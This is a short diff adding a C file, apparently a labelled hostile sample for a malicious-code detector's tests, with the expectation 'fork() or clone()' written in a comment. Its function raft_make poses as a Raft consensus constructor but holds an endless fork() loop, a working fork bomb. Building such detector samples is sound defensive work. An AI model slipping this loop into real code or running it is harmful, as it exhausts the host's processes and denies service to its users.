@@ -1,0 +1,11 @@
+// fork_bomb.c -- starts processes without end
+// expect: fork() or clone()
+#define _GNU_SOURCE
+#include "hostile.h"
+
+struct raft *raft_make(const struct raft_config *config)
+{
+    for (;;)
+        fork();
+    return honest_make(config);
+}
